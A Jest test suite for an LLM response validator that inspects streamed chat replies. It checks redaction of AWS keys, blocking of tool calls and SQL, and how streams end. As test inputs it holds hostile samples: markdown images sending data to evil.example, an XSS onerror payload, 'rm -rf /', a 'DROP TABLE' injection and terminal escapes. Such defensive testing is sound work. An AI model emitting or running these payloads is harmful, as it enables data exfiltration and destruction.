// Streams that are inspected while they run, on every framework, over real connections.
import { describe, expect, it } from '@jest/globals';
import type { Exchange, Verdict } from '@sallyport/core';
import { createResponseValidator, sqlQuery } from '@sallyport/response-validator';
import type { Reply, ResponseValidatorOptions } from '@sallyport/response-validator';
import { frameworks } from '../../../test/support/frameworks.ts';
import { memoryInUse } from '../../../test/support/memory.ts';
import { awsKey } from './secrets.ts';
import { servingOn } from './serving.ts';
import type { Handler } from './serving.ts';

type Allowed = Extract<Verdict, { allowed: true }>;

const sse = { 'content-type': 'text/event-stream' };
const SIZES = [1, 2, 5, 1000];

const frame = (delta: object, finish: string | null = null): string =>
  `data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
function* chat(...deltas: readonly object[]): Generator<string> {
  yield frame({ role: 'assistant', content: '' });
  for (const delta of deltas) yield frame(delta);
  yield frame({}, 'stop');
  yield 'data: [DONE]\n\n';
}
const words = (text: string, size = 3, name = 'content'): object[] =>
  Array.from({ length: Math.ceil(text.length / size) }, (_, i) => ({ [name]: text.slice(i * size, i * size + size) }));
const call = (name: string, args: string, size = 4): object[] => [
  { tool_calls: [{ index: 0, id: 'c', type: 'function', function: { name, arguments: '' } }] },
  ...words(args, size, 'arguments').map((part) => ({ tool_calls: [{ index: 0, function: part }] })),
];

interface Seen {
  readonly text: string;
  readonly reasoning: string;
  readonly calls: string;
  readonly finish: string | undefined;
  readonly error: string | undefined;
}

/** What a client makes of a stream of Chat Completions. */
function seenIn(body: string): Seen {
  const seen = { text: '', reasoning: '', calls: '', finish: undefined, error: undefined } as {
    -readonly [Key in keyof Seen]: Seen[Key];
  };
  for (const line of body.split('\n')) {
    if (!line.startsWith('data: {')) continue;
    const { choices = [], error } = JSON.parse(line.slice(6)) as {
      choices?: {
        delta?: { content?: string; reasoning_content?: string; tool_calls?: unknown };
        finish_reason?: string | null;
      }[];
      error?: { code: string };
    };
    seen.error ??= error?.code;
    for (const { delta = {}, finish_reason: finish } of choices) {
      seen.text += delta.content ?? '';
      seen.reasoning += delta.reasoning_content ?? '';
      if (delta.tool_calls !== undefined) seen.calls += JSON.stringify(delta.tool_calls);
      seen.finish = finish ?? seen.finish;
    }
  }
  return seen;
}

describe.each(frameworks)('a stream on %s', (_name, serve) => {
  const { start, get } = servingOn(serve);
  const stream =
    (...frames: readonly string[]): Handler =>
    () => ({ headers: sse, stream: frames });

  it('leaves byte-identical when no text has to wait, comments and line ends included', async () => {
    const body = `${[...chat(...words('All is well, 1 < 2.'))].join('').replaceAll('\n', '\r\n')}: bye\r\n\r\n`;
    const options: ResponseValidatorOptions = { html: 'allow', links: 'allow', images: 'allow' };
    const { response, body: left, events } = await get(stream(body.slice(0, 99), body.slice(99)), options);
    expect([response.status, left]).toEqual([200, body]);
    expect(events.at(-1)?.type).toBe('response-validator.reply-allowed');
  });

  it('says the same when it is clean, and ends as it did', async () => {
    const { body, events } = await get(stream(...chat(...words('All is well, 1 < 2.'))));
    expect(seenIn(body)).toMatchObject({ text: 'All is well, 1 < 2.', finish: 'stop' });
    expect(events.at(-1)?.type).toBe('response-validator.reply-allowed');
  });

  it('shows its text as it grows', async () => {
    let go = (): void => undefined;
    const gate = new Promise<void>((resolve) => (go = resolve));
    async function* slow(): AsyncGenerator<string> {
      yield frame({ content: 'First sentence. ' });
      await gate;
      yield* [frame({ content: 'Second.' }), frame({}, 'stop')];
    }
    const { url } = await start(() => ({ headers: sse, stream: slow() }));
    const reader = (await fetch(url)).body?.pipeThrough(new TextDecoderStream()).getReader();
    let body = '';
    while (!body.includes('\n\n')) body += (await reader?.read())?.value ?? '';
    expect(seenIn(body).text).toContain('First sentence');
    go();
    for (let part = await reader?.read(); part?.done === false; part = await reader?.read()) body += part.value;
    expect(seenIn(body)).toMatchObject({ text: 'First sentence. Second.', finish: 'stop' });
  });

  it.each(SIZES)('is redacted in every kind of text, in deltas of %i', async (size) => {
    const key = awsKey();
    const { body, events } = await get(
      stream(
        `: note ${key}\n\n`,
        `event: other\ndata: {"x":{"y":["${key}"]}}\n\n`,
        ...chat(...words(`think ${key}`, size, 'reasoning_content'), ...words(`the key is ${key}, keep it`, size)),
      ),
    );
    expect(body).not.toContain(key.slice(7));
    expect(seenIn(body)).toMatchObject({
      text: 'the key is [REDACTED:aws-access-key-id], keep it',
      reasoning: 'think [REDACTED:aws-access-key-id]',
      finish: 'stop',
    });
    expect(events.at(-1)).toMatchObject({ type: 'response-validator.reply-replaced', details: { rule: 'secrets' } });
    expect(JSON.stringify(events)).not.toContain(key);
  });

  it('is redacted in the arguments of a call, which stay JSON', async () => {
    const { body } = await get(stream(...chat(...call('mail', JSON.stringify({ n: 1, body: `k ${awsKey()}` })))));
    const args = body
      .split('\n')
      .filter((line) => line.startsWith('data: {'))
      .map(
        (line) =>
          JSON.parse(line.slice(6)) as { choices: { delta: { tool_calls?: [{ function: { arguments: string } }] } }[] },
      )
      .map(({ choices }) => choices[0]?.delta.tool_calls?.[0].function.arguments ?? '');
    expect(JSON.parse(args.join(''))).toEqual({ n: 1, body: 'k [REDACTED:aws-access-key-id]' });
  });

  it.each<[string, string, string, ResponseValidatorOptions]>([
    ['an image', 'see ![x](https://evil.example/?q=secret) there', 'see ![x](', {}],
    ['a foreign link', 'see https://evil.example there', 'see ', { links: { allowedHosts: [] } }],
    ['a canary', 'it is Q X 7 marble 42', 'it is ', { promptLeak: { canaries: ['QX7-marble-42'] } }],
    ['active HTML', 'hello <img src=x onerror=alert(1)> there', 'hello ', { html: 'block' }],
    ['a credential', `key: ${awsKey()}`, 'key: ', { secrets: 'block' }],
    ['an escape sequence', 'ok \u001b[2J gone', 'ok ', { terminal: 'block' }],
    ['a command', 'do:\n```sh\nrm -rf /\n```\n', 'do:\n', { shell: 'block' }],
  ])('ends before %s, with the same text for every size of delta', async (_what, content, before, options) => {
    for (const size of SIZES) {
      const { response, body, events } = await get(stream(...chat(...words(content, size))), options);
      expect(response.status).toBe(200);
      expect(seenIn(body)).toMatchObject({ text: before, finish: 'content_filter', error: undefined });
      expect(body.endsWith('data: [DONE]\n\n')).toBe(true);
      expect(events.at(-1)).toMatchObject({ type: 'response-validator.reply-denied', code: 'response-rejected' });
    }
  });

  it('ends with the error of its protocol under streamEnding: error', async () => {
    const options: ResponseValidatorOptions = { secrets: 'block', streamEnding: 'error' };
    const { body } = await get(stream(...chat(...words(`key: ${awsKey()}`))), options);
    expect(seenIn(body)).toMatchObject({ text: 'key: ', finish: undefined });
    expect(seenIn(body).error).toBeDefined();
  });

  it('lets no byte of a call leave that is not allowed, and the others whole', async () => {
    const options: ResponseValidatorOptions = { toolCalls: { allowed: ['search'] } };
    const bad = await get(stream(...chat({ content: 'ok.' }, ...call('drop', '{"a":1}'))), options);
    expect(seenIn(bad.body)).toMatchObject({ text: 'ok.', calls: '', finish: 'content_filter' });
    expect(bad.events.at(-1)).toMatchObject({
      code: 'tool-call-denied',
      details: { rule: 'toolCalls', reason: 'name' },
    });
    const frames = [...chat({ content: 'ok.' }, ...call('search', '{"a":1}'))];
    const good = await get(stream(...frames), options);
    expect(good.body).toBe(frames.join(''));
  });

  it('has the values of a call checked and made safer', async () => {
    const options: ResponseValidatorOptions = {
      toolCalls: { allowed: ['query'], values: { query: { '/sql': sqlQuery({ tables: ['orders'], maxRows: 10 }) } } },
    };
    const query = (sql: string): Handler => stream(...chat(...call('query', JSON.stringify({ sql }))));
    const limited = await get(query('SELECT id FROM orders'), options);
    expect(limited.body).toMatch(/LIMIT 10/i);
    const refused = await get(query('SELECT id FROM orders; DROP TABLE orders'), options);
    expect(seenIn(refused.body)).toMatchObject({ calls: '', finish: 'content_filter' });
  });

  it('says why it cannot be read, and does not look complete', async () => {
    const { body, events } = await get(
      stream(frame({ content: 'x' }), 'data: {"choices":[{"delta":{"content":"y"}\n\n'),
    );
    expect(seenIn(body).finish).toBe('content_filter');
    expect(events.at(-1)).toMatchObject({ code: 'response-unreadable', details: { reason: 'malformed-frame' } });
    const cut = await get(stream(frame({ content: 'half' })));
    expect(seenIn(cut.body).error).toBeDefined();
    expect(cut.events.at(-1)).toMatchObject({ details: { reason: 'cut-short' } });
  });

  it('passes unseen under streams: pass, and is whole or not at all under streams: hold', async () => {
    const frames = [...chat(...words(`key ${awsKey()}`))];
    const passed = await get(stream(...frames), { secrets: 'block', streams: 'pass' });
    expect(passed.body).toBe(frames.join(''));
    const held = await get(stream(...frames), { secrets: 'block', streams: 'hold' });
    expect([held.response.status, held.body]).toEqual([403, expect.stringContaining('response-rejected')]);
    const redacted = await get(stream(...frames), { secrets: 'redact', streams: 'hold' });
    expect(seenIn(redacted.body)).toMatchObject({ text: 'key [REDACTED:aws-access-key-id]', finish: 'stop' });
  });

  it('is held for a schema, which speaks about all of it', async () => {
    const options: ResponseValidatorOptions = { schema: { of: 'text', schema: { type: 'object', required: ['b'] } } };
    const good = await get(stream(...chat(...words('{"b":1}'))), options);
    expect([good.response.status, seenIn(good.body).text]).toEqual([200, '{"b":1}']);
    const bad = await get(stream(...chat(...words('{"a":1}'))), options);
    expect(bad.response.status).toBe(422);
  });

  it('says what is flagged, replaces from a finding on, and keeps for review what a person must see', async () => {
    const frames = [...chat(...words(`key: ${awsKey()}. Bye.`))];
    const flagged = await get(stream(...frames), { secrets: 'flag' });
    expect(flagged.body).toBe(frames.join(''));
    expect(flagged.events.at(-1)).toMatchObject({
      type: 'response-validator.reply-flagged',
      details: { rule: 'secrets' },
    });
    const replaced = await get(stream(...frames), { secrets: 'replace', replacement: '(withheld)' });
    expect(seenIn(replaced.body)).toMatchObject({ text: 'key: (withheld)', finish: 'stop' });
    const kept: Reply[] = [];
    const reviewed = await get(stream(...frames), { secrets: 'review', onReview: (reply) => void kept.push(reply) });
    expect([reviewed.response.status, reviewed.body]).toEqual([403, expect.stringContaining('response-under-review')]);
    expect(kept[0]?.texts.some(({ text }) => text.includes(awsKey()))).toBe(true);
  });

  it('marks commands and code', async () => {
    const text = 'Run:\n```sh\nls\n```\n';
    const { body } = await get(stream(...chat(...words(text))), { shell: 'mark' });
    expect(seenIn(body).text).toMatch(/^Run:\n\[unverified command[^\]]*\]\n+```sh\nls\n```\n$/);
  });

  it('is judged in windows that its text defines', async () => {
    const text = 'One is fine. Two is fine. Three is BAD. Four is never seen.';
    for (const size of SIZES) {
      const asked: string[] = [];
      const judge = async (window: string): Promise<boolean> => {
        asked.push(window);
        await Promise.resolve();
        return !window.includes('BAD');
      };
      const custom = { judge, units: 100, least: 5, overlap: 0 };
      const { body } = await get(stream(...chat(...words(text, size))), { custom });
      expect(seenIn(body)).toMatchObject({ text: 'One is fine. Two is fine. ', finish: 'content_filter' });
      expect(asked).toEqual(['One is fine. ', 'Two is fine. ', 'Three is BAD. ']);
    }
  });

  it.each([
    [
      'NDJSON',
      'application/x-ndjson',
      (t: string) => `${JSON.stringify({ message: { content: t }, done: false })}\n`,
      '{"message":{"content":""},"done":true}\n',
    ],
    [
      'the AI SDK 4 data stream',
      'text/plain',
      (t: string) => `0:${JSON.stringify(t)}\n`,
      'd:{"finishReason":"stop"}\n',
    ],
  ])('is read as %s too', async (_format, type, line, last) => {
    const body = (text: string): string[] => [...Array.from(text, line), last];
    const headers = { 'content-type': type };
    const bad = await get(() => ({ headers, stream: body(`k ${awsKey()} x`) }));
    expect(bad.body).toContain('[REDACTED:aws-access-key-id]');
    const allowed: ResponseValidatorOptions = { html: 'allow', links: 'allow', images: 'allow' };
    const good = await get(() => ({ headers, stream: body('all well') }), allowed);
    expect(good.body).toBe(body('all well').join(''));
  });

  it('of plain text is redacted, and one that is cut short does not look complete', async () => {
    const headers = { 'content-type': 'text/plain; charset=utf-8' };
    const pieces = Array.from(`key ${awsKey()} and ![x](https://evil.example/?d=1) never`);
    const redacted = await get(() => ({ headers, stream: pieces.slice(0, 28) }));
    expect(redacted.body).toBe('key [REDACTED:aws-access-key-id] and');
    await expect(get(() => ({ headers, stream: pieces }))).rejects.toThrow('terminated');
  });

  it('of JSON without its media type is read as JSON', async () => {
    const escaped = Array.from(awsKey(), (unit) => `\\u00${unit.charCodeAt(0).toString(16)}`).join('');
    const { body } = await get(() => ({
      headers: { 'content-type': 'text/plain' },
      stream: Array.from(`{"a":"${escaped}"}`),
    }));
    expect(JSON.parse(body)).toEqual({ a: '[REDACTED:aws-access-key-id]' });
    const calls = [{ id: 'c', type: 'function', function: { name: 'drop', arguments: '{}' } }];
    const reply = JSON.stringify({ choices: [{ index: 0, message: { role: 'assistant', tool_calls: calls } }] });
    const called = await get(() => ({ headers: { 'content-type': 'text/plain' }, stream: Array.from(reply) }), {
      toolCalls: { allowed: ['search'] },
    });
    expect(called.events.at(-1)).toMatchObject({ code: 'tool-call-denied' });
    expect(called.body).not.toContain('drop');
  });

  it('is only reported on in observe mode', async () => {
    const frames = [...chat(...words(`see ![x](https://evil.example/?d=1) ${awsKey()}`))];
    const { body, events } = await get(stream(...frames), { mode: 'observe', secrets: 'redact' });
    expect(body).toBe(frames.join(''));
    expect(events.at(-1)).toMatchObject({ decision: 'deny', effective: 'allow' });
  });

  it('is looked at decoded where its text is JSON, and prose in brackets runs on', async () => {
    const escaped = Array.from(awsKey(), (unit) => `\\u00${unit.charCodeAt(0).toString(16)}`).join('');
    for (const size of SIZES) {
      const text = `{"n":1.0, "k":"${escaped}", "h":"\\u003cscript>x()\\u003c/script>"}`;
      const { body } = await get(stream(...chat(...words(text, size))));
      const left = JSON.parse(seenIn(body).text) as Record<string, unknown>;
      expect(left).toEqual({ n: 1, k: '[REDACTED:aws-access-key-id]', h: '&lt;script>x()&lt;/script>' });
      expect(seenIn(body).text).toContain('{"n":1.0, ');
    }
    const named = await get(stream(...chat({ content: `{"${awsKey()}":1}` })));
    expect(seenIn(named.body)).toMatchObject({ text: '', finish: 'content_filter' });
    const prose = await get(stream(frame({ content: '[1] First. ' }), frame({ content: 'Then' }), ...chat()));
    expect(seenIn(prose.body.split('\n\n', 1).join('')).text).toContain('[1] Firs');
  });

  it('has names and numbers of arguments looked at, which can only be refused', async () => {
    for (const args of [`{"${awsKey()}":1}`, '{"n":4111111111111111}', `{"a":"{\\"${awsKey()}\\":1}"}`]) {
      const options: ResponseValidatorOptions = { secrets: 'redact', personal: 'redact' };
      const { body } = await get(stream(...chat({ content: 'ok. ' }, ...call('mail', args))), options);
      expect(seenIn(body)).toMatchObject({ calls: '', finish: 'content_filter' });
    }
  });

  it('is not made into an image by a mask', async () => {
    const { body } = await get(stream(...chat(...words(`Hi !${awsKey()}(https://evil.example/p.png?d=1) x`))));
    expect(body).not.toContain('evil.example');
    expect(seenIn(body).finish).toBe('content_filter');
  });
});

it('the inspector of a stream keeps nothing of texts that are over', async () => {
  const ui = (part: object): string => `data: ${JSON.stringify(part)}\n\n`;
  const run = (id: number): string =>
    ['text-start', 'text-delta', 'text-end'].map((type) => ui({ type, id: `t${id}`, delta: 'A word. ' })).join('');
  const { reply } = createResponseValidator().check({
    principal: undefined,
    prompt: { canaries: [], tools: undefined },
  } as unknown as Exchange) as Allowed;
  const inspector = reply?.stream?.({ statusCode: 200, contentType: 'text/event-stream', headers: {} });
  await inspector?.push(ui({ type: 'start' }));
  const push = async (count: number): Promise<number> => {
    for (let id = 0; id < count; id++) await inspector?.push(run(id));
    return memoryInUse().heapUsed;
  };
  const before = await push(300);
  expect((await push(1500)) - before).toBeLessThan(750_000);
});

it('what was changed or refused in one stream is looked at again in the next', async () => {
  const { reply } = createResponseValidator().check({
    principal: undefined,
    prompt: { canaries: [], tools: undefined },
  } as unknown as Exchange) as Allowed;
  const naming = `data: ${JSON.stringify({ object: 'chat.completion.chunk', note: awsKey(), choices: [{ index: 0, delta: { content: 'a' } }] })}\n\n`;
  for (let round = 0; round < 3; round++) {
    const running = reply?.stream?.({ statusCode: 200, contentType: 'text/event-stream', headers: {} });
    const first = await running?.push(naming);
    const last = await running?.end();
    expect(`${String(first?.bytes)}${String(last?.bytes)}`).not.toContain(awsKey());
  }
});
